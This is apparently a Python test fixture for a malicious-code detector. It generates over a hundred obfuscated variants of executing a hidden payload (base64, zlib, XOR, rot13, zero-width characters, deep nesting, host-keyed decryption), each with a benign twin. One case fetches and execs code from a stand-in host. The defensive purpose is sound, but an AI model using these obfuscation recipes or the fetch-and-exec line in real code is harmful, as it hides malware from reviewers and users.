"""Strings that stand nowhere: built, encoded, encrypted, mapped."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import lzma
import struct
import zlib
from collections.abc import Callable

from tests.evasions.sample import CODE, COMMAND, SUSPICIOUS, Evasion, b64, evasion

_FINE = "X = 'an honest setting, as long as the other one'\n"
_KEY = b"k3y"


def _code(title: str, make: Callable[[str], str]) -> Evasion:
    """The same construction of a payload that is executed, and of a text that is only kept."""
    bad, good = make(CODE), make(_FINE).replace("exec(", "TEXT = str(")
    return evasion(title, bad, good)


def _xor(text: str, key: bytes) -> list[int]:
    return [b ^ key[i % len(key)] for i, b in enumerate(text.encode())]


def _deep(text: str, levels: int) -> str:
    for _ in range(levels):
        text = (
            f"import base64 as b, zlib as z\nexec(z.decompress(b.b64decode({b64(zlib.compress(text.encode()))!r})))\n"
        )
    return text


def _whitespace(text: str) -> str:
    return "".join(f"{b:08b}" for b in text.encode()).replace("0", " ").replace("1", "\t")


def _zero_width(text: str) -> str:
    return "".join(f"{b:08b}" for b in text.encode()).replace("0", "\u200b").replace("1", "\u200c")


def _json(text: str) -> str:
    return '["' + "".join(f"\\u{b:04x}" for b in text.encode()) + '"]'


def _escaped(text: str) -> str:
    return "".join(f"\\x{b:02x}" for b in text.encode())


def _lines(text: str, size: int = 24) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


CASES = (
    _code("join", lambda t: f"exec(''.join({list(t)!r}))\n"),
    _code("join of pieces", lambda t: "exec(" + " + ".join(map(repr, _lines(t, 5))) + ")\n"),
    _code("augmented assignment", lambda t: "x = ''\n" + "".join(f"x += {p!r}\n" for p in _lines(t, 7)) + "exec(x)\n"),
    _code("reversed slice", lambda t: f"exec({t[::-1]!r}[::-1])\n"),
    _code("reversed()", lambda t: f"exec(''.join(reversed({t[::-1]!r})))\n"),
    _code("every second character", lambda t: f"exec({''.join(c + '#' for c in t)!r}[::2])\n"),
    _code("format", lambda t: f"exec('{{}}{{}}'.format({t[:20]!r}, {t[20:]!r}))\n"),
    _code("format by number", lambda t: f"exec('{{1}}{{0}}'.format({t[20:]!r}, {t[:20]!r}))\n"),
    _code("format by name", lambda t: f"exec('{{a}}{{b}}'.format(b={t[20:]!r}, a={t[:20]!r}))\n"),
    _code("format_map", lambda t: f"exec('{{a}}{{b}}'.format_map({{'b': {t[20:]!r}, 'a': {t[:20]!r}}}))\n"),
    _code("percent", lambda t: f"exec('%s%s' % ({t[:20]!r}, {t[20:]!r}))\n"),
    _code("percent with a dict", lambda t: f"exec('%(a)s%(b)s' % {{'a': {t[:20]!r}, 'b': {t[20:]!r}}})\n"),
    _code("f-string", lambda t: f"a = {t[:20]!r}\nb = {t[20:]!r}\nexec(f'{{a}}{{b}}')\n"),
    _code(
        "string.Template",
        lambda t: f"import string\nexec(string.Template('$a$b').substitute(a={t[:20]!r}, b={t[20:]!r}))\n",
    ),
    _code(
        "translate",
        lambda t: f"exec({t.translate(str.maketrans('eos', 'soe'))!r}.translate(str.maketrans('soe', 'eos')))\n",
    ),
    _code("translate with a dict", lambda t: f"exec({t.replace('e', chr(1))!r}.translate({{1: 'e'}}))\n"),
    _code("replace", lambda t: f"exec({t.replace('s', '~~')!r}.replace('~~', 's'))\n"),
    _code("split and join", lambda t: f"exec(''.join({'@@'.join(_lines(t, 3))!r}.split('@@')))\n"),
    _code("swapcase", lambda t: f"exec({t.swapcase()!r}.swapcase())\n"),
    _code("strip", lambda t: f"exec({'###' + t + '###'!r}.strip('#'))\n"),
    _code("chr in a list", lambda t: f"exec(''.join([chr(i) for i in {[ord(c) for c in t]!r}]))\n"),
    _code("chr by map", lambda t: f"exec(''.join(map(chr, {[ord(c) for c in t]!r})))\n"),
    _code("chr sum", lambda t: "exec(" + " + ".join(f"chr({ord(c)})" for c in t) + ")\n"),
    _code("chr with arithmetic", lambda t: f"exec(''.join(chr(i - 7) for i in {[ord(c) + 7 for c in t]!r}))\n"),
    _code(
        "chr with two operations",
        lambda t: f"exec(''.join(chr((i ^ 9) // 3) for i in {[(ord(c) * 3) ^ 9 for c in t]!r}))\n",
    ),
    _code(
        "ord differences",
        lambda t: (
            f"exec(''.join(chr(a - b) for a, b in zip({[ord(c) + i for i, c in enumerate(t)]!r}, range(9999))))\n"
        ),
    ),
    _code("f-string of characters", lambda t: "exec(f'" + "".join(f"{{{ord(c)}:c}}" for c in t) + "')\n"),
    _code("percent c", lambda t: f"exec({'%c' * len(t)!r} % {tuple(ord(c) for c in t)!r})\n"),
    _code("bytes of a list", lambda t: f"exec(bytes({list(t.encode())!r}))\n"),
    _code("bytes of a list, decoded", lambda t: f"exec(bytes({list(t.encode())!r}).decode())\n"),
    _code("bytearray", lambda t: f"exec(bytearray({list(t.encode())!r}))\n"),
    _code(
        "bytearray filled by a loop",
        lambda t: f"a = bytearray()\nfor i in {list(t.encode())!r}:\n    a.append(i)\nexec(bytes(a))\n",
    ),
    _code(
        "bytearray changed in place",
        lambda t: (
            f"a = bytearray({bytes(b ^ 1 for b in t.encode())!r})\nfor i in range(len(a)):\n    a[i] ^= 1\nexec(bytes(a))\n"
        ),
    ),
    _code("array", lambda t: f"import array\nexec(array.array('B', {list(t.encode())!r}).tobytes())\n"),
    _code("memoryview", lambda t: f"exec(bytes(memoryview({t.encode()!r})))\n"),
    _code("int.to_bytes", lambda t: f"exec(({int.from_bytes(t.encode(), 'big')}).to_bytes({len(t)}, 'big'))\n"),
    _code(
        "int.to_bytes, little",
        lambda t: (
            f"n = {int.from_bytes(t.encode(), 'little')}\nexec(n.to_bytes((n.bit_length() + 7) // 8, 'little'))\n"
        ),
    ),
    _code("hexadecimal of a number", lambda t: f"exec(bytes.fromhex(hex({int.from_bytes(t.encode(), 'big')})[2:]))\n"),
    _code(
        "hexadecimal of a number, formatted",
        lambda t: f"exec(bytes.fromhex('%x' % {int.from_bytes(t.encode(), 'big')}))\n",
    ),
    _code(
        "struct",
        lambda t: (
            f"import struct\nexec(struct.pack('<{len(t.encode()) // 4 + 1}I', *{list(struct.unpack(f'<{len(t.encode()) // 4 + 1}I', t.encode() + b'#' * (4 - len(t.encode()) % 4)))!r}))\n"
        ),
    ),
    _code("rot13", lambda t: f"import codecs\nexec(codecs.decode({codecs.encode(t, 'rot13')!r}, 'rot13'))\n"),
    _code(
        "rot13 by translate",
        lambda t: (
            f"a = 'abcdefghijklmnopqrstuvwxyz'\nexec({codecs.encode(t, 'rot13')!r}.translate(str.maketrans(a + a.upper(), a[13:] + a[:13] + a[13:].upper() + a[:13].upper())))\n"
        ),
    ),
    _code("hex by codecs", lambda t: f"import codecs\nexec(codecs.decode({t.encode().hex()!r}, 'hex'))\n"),
    _code("hex by fromhex", lambda t: f"exec(bytes.fromhex({t.encode().hex()!r}))\n"),
    _code("hex by binascii", lambda t: f"import binascii\nexec(binascii.unhexlify({t.encode().hex()!r}))\n"),
    _code(
        "hex by pairs",
        lambda t: f"h = {t.encode().hex()!r}\nexec(''.join(chr(int(h[i:i + 2], 16)) for i in range(0, len(h), 2)))\n",
    ),
    _code(
        "binary digits",
        lambda t: f"exec(''.join(chr(int(b, 2)) for b in {' '.join(f'{b:08b}' for b in t.encode())!r}.split()))\n",
    ),
    _code(
        "octal digits",
        lambda t: f"exec(''.join(chr(int(b, 8)) for b in {' '.join(f'{b:o}' for b in t.encode())!r}.split()))\n",
    ),
    _code("base64", lambda t: f"import base64\nexec(base64.b64decode({b64(t)!r}))\n"),
    _code(
        "base64 with the alphabet swapped",
        lambda t: f"import base64\nexec(base64.b64decode({b64(t).swapcase()!r}.swapcase()))\n",
    ),
    _code("base64 reversed", lambda t: f"import base64\nexec(base64.b64decode({b64(t)[::-1]!r}[::-1]))\n"),
    _code(
        "base64 in lines",
        lambda t: f"import base64\nexec(base64.b64decode('''\n{chr(10).join(_lines(b64(t)))}\n'''))\n",
    ),
    _code("base64 by binascii", lambda t: f"import binascii\nexec(binascii.a2b_base64({b64(t)!r}))\n"),
    _code("base64 by codecs", lambda t: f"import codecs\nexec(codecs.decode({b64(t).encode()!r}, 'base64'))\n"),
    _code("base32", lambda t: f"import base64\nexec(base64.b32decode({base64.b32encode(t.encode())!r}))\n"),
    _code("base85", lambda t: f"import base64\nexec(base64.b85decode({base64.b85encode(t.encode())!r}))\n"),
    _code("ascii85", lambda t: f"import base64\nexec(base64.a85decode({base64.a85encode(t.encode())!r}))\n"),
    _code("uu", lambda t: f"import codecs\nexec(codecs.decode({codecs.encode(t.encode(), 'uu')!r}, 'uu'))\n"),
    _code(
        "quoted printable",
        lambda t: f"import quopri\nexec(quopri.decodestring({''.join(f'={b:02X}' for b in t.encode())!r}))\n",
    ),
    _code(
        "percent encoding",
        lambda t: f"from urllib.parse import unquote\nexec(unquote({''.join(f'%{b:02x}' for b in t.encode())!r}))\n",
    ),
    _code("HTML entities", lambda t: f"import html\nexec(html.unescape({''.join(f'&#{b};' for b in t.encode())!r}))\n"),
    _code("JSON", lambda t: f"import json\nexec(json.loads({_json(t)!r})[0])\n"),
    _code("literal_eval", lambda t: f"import ast\nexec(ast.literal_eval({repr(t)!r}))\n"),
    _code("unicode_escape", lambda t: f"exec({_escaped(t)!r}.encode().decode('unicode_escape'))\n"),
    _code("utf-16", lambda t: f"exec({t.encode('utf-16-le')!r}.decode('utf-16-le'))\n"),
    _code("utf-7", lambda t: f"exec({t.encode('utf-7')!r}.decode('utf-7'))\n"),
    _code("zlib", lambda t: f"import zlib\nexec(zlib.decompress({zlib.compress(t.encode())!r}))\n"),
    _code(
        "zlib object",
        lambda t: f"import zlib\nd = zlib.decompressobj()\nexec(d.decompress({zlib.compress(t.encode())!r}))\n",
    ),
    _code("zlib by codecs", lambda t: f"import codecs\nexec(codecs.decode({zlib.compress(t.encode())!r}, 'zlib'))\n"),
    _code("bz2", lambda t: f"import bz2\nexec(bz2.decompress({bz2.compress(t.encode())!r}))\n"),
    _code("lzma", lambda t: f"import lzma\nexec(lzma.decompress({lzma.compress(t.encode())!r}))\n"),
    _code("gzip", lambda t: f"import gzip\nexec(gzip.decompress({gzip.compress(t.encode(), mtime=0)!r}))\n"),
    _code(
        "gzip file object",
        lambda t: (
            f"import gzip, io\nexec(gzip.GzipFile(fileobj=io.BytesIO({gzip.compress(t.encode(), mtime=0)!r})).read())\n"
        ),
    ),
    _code(
        "gzip opened",
        lambda t: f"import gzip, io\nexec(gzip.open(io.BytesIO({gzip.compress(t.encode(), mtime=0)!r})).read())\n",
    ),
    _code(
        "raw deflate", lambda t: f"import zlib\nexec(zlib.decompress({zlib.compress(t.encode(), wbits=-15)!r}, -15))\n"
    ),
    _code("two layers", lambda t: _deep(t, 2)),
    _code("ten layers", lambda t: _deep(t, 10)),
    _code("thirty layers", lambda t: _deep(t, 30)),
    _code("XOR in a comprehension", lambda t: f"exec(bytes(b ^ 90 for b in {bytes(b ^ 90 for b in t.encode())!r}))\n"),
    _code(
        "XOR with a repeated key",
        lambda t: f"k = {_KEY!r}\nd = {_xor(t, _KEY)!r}\nexec(bytes(b ^ k[i % len(k)] for i, b in enumerate(d)))\n",
    ),
    _code(
        "XOR with cycle",
        lambda t: (
            f"from itertools import cycle\nexec(bytes(a ^ b for a, b in zip({_xor(t, _KEY)!r}, cycle({_KEY!r}))))\n"
        ),
    ),
    _code("XOR in a for loop", lambda t: f"r = ''\nfor b in {_xor(t, b'Z')!r}:\n    r += chr(b ^ 90)\nexec(r)\n"),
    _code(
        "XOR in a while loop",
        lambda t: (
            f"d = {_xor(t, b'Z')!r}\ni = 0\nr = ''\nwhile i < len(d):\n    r += chr(d[i] ^ 90)\n    i += 1\nexec(r)\n"
        ),
    ),
    _code(
        "XOR by operator", lambda t: f"import operator\nexec(bytes(map(operator.xor, {_xor(t, b'Z')!r}, [90] * 999)))\n"
    ),
    _code(
        "XOR in a function",
        lambda t: (
            f"def d(x, k):\n    return ''.join(chr(c ^ ord(k[i % len(k)])) for i, c in enumerate(x))\n\nexec(d({_xor(t, _KEY)!r}, {_KEY.decode()!r}))\n"
        ),
    ),
    _code(
        "XOR of two numbers",
        lambda t: (
            f"exec((({int.from_bytes(t.encode(), 'big') ^ (1 << 200)}) ^ (1 << 200)).to_bytes({len(t)}, 'big'))\n"
        ),
    ),
    _code(
        "rolling key",
        lambda t: (
            f"k = 7\nr = []\nfor b in {[b ^ ((7 + 3 * i) % 256) for i, b in enumerate(t.encode())]!r}:\n    r.append(b ^ k)\n    k = (k + 3) % 256\nexec(bytes(r))\n"
        ),
    ),
    _code("while with pop", lambda t: f"d = {list(t.encode())!r}\nr = ''\nwhile d:\n    r += chr(d.pop(0))\nexec(r)\n"),
    _code("recursion", lambda t: f"def r(s):\n    return s[-1] + r(s[:-1]) if s else ''\n\nexec(r({t[::-1]!r}))\n"),
    _code(
        "look-up in an alphabet",
        lambda t: (
            f"a = {''.join(sorted(set(t)))!r}\nexec(''.join(a[i] for i in {[sorted(set(t)).index(c) for c in t]!r}))\n"
        ),
    ),
    _code(
        "look-up in a dict",
        lambda t: (
            f"d = {dict(enumerate(sorted(set(t))))!r}\nexec(''.join(d[i] for i in {[sorted(set(t)).index(c) for c in t]!r}))\n"
        ),
    ),
    _code(
        "look-up of words",
        lambda t: (
            f"d = { ({f'w{ord(c)}': c for c in t})!r}\nexec(''.join(d[w] for w in {' '.join(f'w{ord(c)}' for c in t)!r}.split()))\n"
        ),
    ),
    _code(
        "interleaved with zip",
        lambda t: (
            f"exec(''.join(a + b for a, b in zip({t[::2] + '#' * (len(t) % 2)!r}, {t[1::2] + '#' * (len(t) % 2)!r})))\n"
        ),
    ),
    _code(
        "sorted by index",
        lambda t: f"exec(''.join(c for _, c in sorted({sorted(enumerate(t), key=lambda p: p[0] * 7919 % 1009)!r})))\n",
    ),
    _code(
        "reduce",
        lambda t: f"from functools import reduce\nexec(reduce(lambda a, b: a + chr(b), {[ord(c) for c in t]!r}, ''))\n",
    ),
    _code("itertools.chain", lambda t: f"import itertools\nexec(''.join(itertools.chain({_lines(t, 9)!r})))\n"),
    _code(
        "chained from_iterable",
        lambda t: f"from itertools import chain\nexec(''.join(chain.from_iterable({_lines(t, 9)!r})))\n",
    ),
    _code(
        "letters of the string module",
        lambda t: (
            f"import string\np = string.printable\nexec(''.join(p[i] for i in {[__import__('string').printable.index(c) for c in t]!r}))\n"
        ),
    ),
    _code(
        "white space alphabet",
        lambda t: (
            f"s = {_whitespace(t)!r}\nb = s.replace(' ', '0').replace('\\t', '1')\nexec(''.join(chr(int(b[i:i + 8], 2)) for i in range(0, len(b), 8)))\n"
        ),
    ),
    _code(
        "zero-width alphabet",
        lambda t: (
            f"s = {_zero_width(t)!r}\nb = s.replace('\\u200b', '0').replace('\\u200c', '1')\nexec(''.join(chr(int(b[i:i + 8], 2)) for i in range(0, len(b), 8)))\n"
        ),
    ),
    _code(
        "UUIDs",
        lambda t: (
            "import uuid\nexec(b''.join(uuid.UUID(u).bytes for u in "
            + repr(
                [
                    str(__import__("uuid").UUID(bytes=c.ljust(16, b"#")))
                    for c in (t.encode()[i : i + 16] for i in range(0, len(t.encode()), 16))
                ]
            )
            + "))\n"
        ),
    ),
    _code(
        "addresses",
        lambda t: (
            "import ipaddress\nexec(b''.join(ipaddress.ip_address(a).packed for a in "
            + repr(
                [
                    ".".join(map(str, c.ljust(4, b"#")))
                    for c in (t.encode()[i : i + 4] for i in range(0, len(t.encode()), 4))
                ]
            )
            + "))\n"
        ),
    ),
    _code(
        "names that stand for pieces",
        lambda t: (
            "".join(f"v{i} = {p!r}\n" for i, p in enumerate(_lines(t, 6)))
            + "exec("
            + " + ".join(f"v{i}" for i in range(len(_lines(t, 6))))
            + ")\n"
        ),
    ),
    _code("pieces as keyword defaults", lambda t: f"def f(a={t[:9]!r}, b={t[9:]!r}):\n    return a + b\n\nexec(f())\n"),
    _code("pieces in a class", lambda t: f"class C:\n    a = {t[:9]!r}\n    b = {t[9:]!r}\n\nexec(C.a + C.b)\n"),
    _code(
        "exec on what zlib and base64 of a call give",
        lambda t: (
            f"_ = lambda s: __import__('zlib').decompress(__import__('base64').b64decode(s[::-1]))\nexec((_)({b64(zlib.compress(t.encode()))[::-1].encode()!r}))\n"
        ),
    ),
    _code(
        "eval of compile",
        lambda t: f"import base64\neval(compile(base64.b64decode({b64(t)!r}), '<s>', 'exec'))\n".replace(
            "eval(c", "exec(c"
        ),
    ),
    _code(
        "lambda chain of decoders",
        lambda t: (
            f"import base64, codecs\nf = lambda s: base64.b64decode(codecs.decode(s, 'rot13'))\nexec(f({codecs.encode(b64(t), 'rot13')!r}))\n"
        ),
    ),
    _code(
        "decoder taken from a list",
        lambda t: (
            f"import base64, zlib\nx = {b64(zlib.compress(t.encode()))!r}\nfor f in (base64.b64decode, zlib.decompress):\n    x = f(x)\nexec(x)\n"
        ),
    ),
    _code(
        "decoder by getattr", lambda t: f"exec(getattr(__import__('base64'), 'b' + str(64) + 'decode')({b64(t)!r}))\n"
    ),
    _code(
        "decoder imported as another", lambda t: f"from base64 import b64decode as strlen\nexec(strlen({b64(t)!r}))\n"
    ),
    evasion(
        "command built of letters for a process",
        f"import os\nos.system(''.join(chr(c) for c in {[ord(c) for c in COMMAND]!r}))\n",
        f"import os\nos.system(''.join(chr(c) for c in {[ord(c) for c in 'true']!r}))\n",
    ),
    evasion(
        "address decoded",
        f"import base64, requests\nexec(requests.get(base64.b64decode({b64('https://stage.example.invalid/a')!r})).text)\n",
        f"import base64\nHOME = base64.b64decode({b64('https://api.example.invalid/a')!r})\n",
    ),
    evasion(
        "key that only the machine has",
        f"import base64, hashlib, socket\nk = hashlib.sha256(socket.gethostname().encode()).digest()\n"
        f"d = base64.b64decode({b64(bytes(200))!r})\nexec(bytes(a ^ b for a, b in zip(d, k * 99)))\n",
        "import hashlib, socket\nK = hashlib.sha256(socket.gethostname().encode()).hexdigest()\n",
        SUSPICIOUS,
    ),
    evasion(
        "shuffled with a seeded generator",
        "import random\nr = random.Random(4)\nd = list(range(200))\nr.shuffle(d)\n"
        "exec(''.join(chr(c % 96 + 32) for c in d))\n",
        "import random\nr = random.Random(4)\nd = list(range(200))\nr.shuffle(d)\nX = d\n",
        SUSPICIOUS,
    ),
)
